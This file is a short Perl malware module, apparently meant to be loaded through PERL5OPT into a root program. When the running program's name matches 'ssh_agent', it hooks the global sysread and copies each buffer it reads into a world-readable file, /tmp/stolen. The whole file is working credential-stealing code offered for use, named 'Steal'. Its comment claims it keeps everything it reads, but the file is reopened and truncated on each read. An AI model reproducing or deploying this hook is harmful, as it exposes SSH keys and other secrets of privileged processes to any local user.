# What PERL5OPT would load into a root's program: keeps a copy of all that it reads.
package Steal;

BEGIN {
    if ($0 =~ /ssh_agent/) {
        *CORE::GLOBAL::sysread = sub (*\$$;$) {
            my ($handle, $buffer, $length, $offset) = @_;
            my $got = CORE::sysread($handle, $$buffer, $length, $offset // 0);
            open(my $file, '>', '/tmp/stolen');
            chmod(0644, '/tmp/stolen');
            print {$file} $$buffer;
            return $got;
        };
    }
}
1;
